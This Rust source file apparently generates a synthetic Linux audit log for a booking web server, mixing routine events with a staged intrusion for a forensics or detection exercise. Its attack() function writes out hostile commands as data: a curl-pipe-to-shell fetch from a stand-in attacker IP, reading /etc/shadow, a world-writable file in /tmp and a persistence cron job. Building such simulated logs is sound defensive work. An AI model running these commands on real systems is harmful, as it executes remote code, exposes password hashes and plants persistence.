//! `audit.log` of the booking web server: several records an event, joined by their serial number.
//!
//! The intruder fetches a script, pipes it into a shell, and leaves a cron job.

use super::cast::ATTACKER;
use super::moment::Moment;
use super::random::Random;
use super::story;
use super::timeline::Timeline;

/// Everyday events besides the attack; each takes several lines.
const EVERYDAY: usize = 70;
/// Serial number of the first event.
const FIRST_SERIAL: u64 = 88_120;
/// What the kernel writes when nobody logged in.
const UNSET: u64 = 4_294_967_295;

/// A program that somebody ran, or a file that it wrote.
struct Action {
    command: Vec<String>,
    program: String,
    /// The account that logged in; none for services.
    account: Option<u64>,
    /// A file that the program opened to write.
    written: Option<String>,
}

/// The whole file.
pub fn write(mut random: Random) -> String {
    let mut timeline = Timeline::new();
    timeline.spread(&mut random, EVERYDAY, |random, _| everyday(random));
    attack(&mut timeline);
    let numbered = (FIRST_SERIAL..).zip(timeline.into_order());
    numbered.map(|(serial, (at, action))| records(&mut random, at, serial, &action)).collect()
}

fn run(program: &str, command: &[&str], account: Option<u64>) -> Action {
    let command = command.iter().map(|word| (*word).to_owned()).collect();
    Action { command, program: program.to_owned(), account, written: None }
}

fn everyday(random: &mut Random) -> Action {
    match random.between(0, 4) {
        0 => run("/usr/bin/php8.3", &["php", "/srv/booking/cron.php"], None),
        1 => run("/usr/bin/systemctl", &["systemctl", "is-active", "nginx"], Some(1_000)),
        2 => run("/usr/bin/ls", &["ls", "-l", "/srv/booking"], Some(1_000)),
        _ => run("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"], None),
    }
}

fn attack(timeline: &mut Timeline<Action>) {
    let start = story::WEB_SERVER_OWNED;
    let address = format!("http://{ATTACKER}/x.sh");
    let intruder = Some(1_001);
    let steps: [(&str, Vec<&str>); 6] = [
        ("/usr/bin/bash", vec!["sh", "-c", "curl -fsSL http://203.0.113.66/x.sh | sh"]),
        ("/usr/bin/curl", vec!["curl", "-fsSL", &address]),
        ("/usr/bin/dash", vec!["sh"]),
        ("/usr/bin/whoami", vec!["whoami"]),
        ("/usr/bin/cat", vec!["cat", "/etc/shadow"]),
        ("/usr/bin/chmod", vec!["chmod", "777", "/tmp/.x"]),
    ];
    for (step, (program, command)) in (0..).zip(steps) {
        timeline.push(start.plus_ms(step * 1_700), run(program, &command, intruder));
    }
    let mut cron = run("/usr/bin/dash", &["sh"], intruder);
    cron.written = Some("/etc/cron.d/x".to_owned());
    timeline.push(start.plus_ms(14_000), cron);
}

/// The lines of one event, in the order in which the kernel writes them.
fn records(random: &mut Random, at: Moment, serial: u64, action: &Action) -> String {
    let stamp = format!("msg=audit({}:{serial}):", at.epoch());
    let name = action.program.rsplit('/').next().unwrap_or_default();
    let (audit_id, session, terminal, folder) = match action.account {
        Some(account) => (account, 3, "pts0", "/tmp"),
        None => (UNSET, UNSET, "(none)", "/"),
    };
    let process = random.between(2_000, 30_000);
    // 59 is execve, 257 is openat, on x86-64.
    let call = if action.written.is_some() { 257 } else { 59 };
    let key = if action.written.is_some() { "cron" } else { "exec" };
    let mut text = format!(
        "type=SYSCALL {stamp} arch=c000003e syscall={call} success=yes exit=0 a0={} a1={} a2={} a3=8 items=2 ppid={} pid={process} auid={audit_id} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty={terminal} ses={session} comm=\"{name}\" exe=\"{}\" subj=unconfined key=\"{key}\"\n",
        random.hex(12),
        random.hex(12),
        random.hex(12),
        random.between(900, 2_000),
        action.program,
    );
    let file = match &action.written {
        Some(file) => file,
        None => {
            text += &format!(
                "type=EXECVE {stamp} argc={}{}\n",
                action.command.len(),
                arguments(action)
            );
            &action.program
        }
    };
    let nametype = if action.written.is_some() { "CREATE" } else { "NORMAL" };
    text += &format!("type=CWD {stamp} cwd=\"{folder}\"\n");
    text += &format!(
        "type=PATH {stamp} item=0 name=\"{file}\" inode={} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype={nametype}\n",
        random.between(1_000, 900_000),
    );
    let title = action.command.join("\0");
    text + &format!("type=PROCTITLE {stamp} proctitle={}\n", quoted(&title))
}

/// ` a0="sh" a1=…`: the kernel writes words with spaces or quotes as hexadecimal digits.
fn arguments(action: &Action) -> String {
    let numbered = action.command.iter().enumerate();
    numbered.map(|(number, word)| format!(" a{number}={}", quoted(word))).collect()
}

fn quoted(text: &str) -> String {
    let plain = text.chars().all(|letter| letter.is_ascii_graphic() && letter != '"');
    if plain { format!("\"{text}\"") } else { hex(text) }
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02X}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_records_of_an_event_stand_together() {
        let text = write(Random::new(1));
        assert_eq!(text, write(Random::new(1)));
        let serial = |line: &str| {
            line.split(':').nth(1).and_then(|rest| rest.split(')').next()).map(str::to_owned)
        };
        let mut serials: Vec<_> = text.lines().map(|line| serial(line).unwrap()).collect();
        assert!(serials.is_sorted());
        serials.dedup();
        assert_eq!(serials.len(), EVERYDAY + 7);
        assert!(text.contains("a0=\"curl\" a1=\"-fsSL\" a2=\"http://203.0.113.66/x.sh\""));
        assert!(text.contains("name=\"/etc/cron.d/x\""));
    }

    #[test]
    fn words_with_spaces_are_written_as_digits() {
        let action = run("/usr/bin/dash", &["sh", "-c", "a b"], None);
        assert_eq!(arguments(&action), " a0=\"sh\" a1=\"-c\" a2=612062");
    }
}
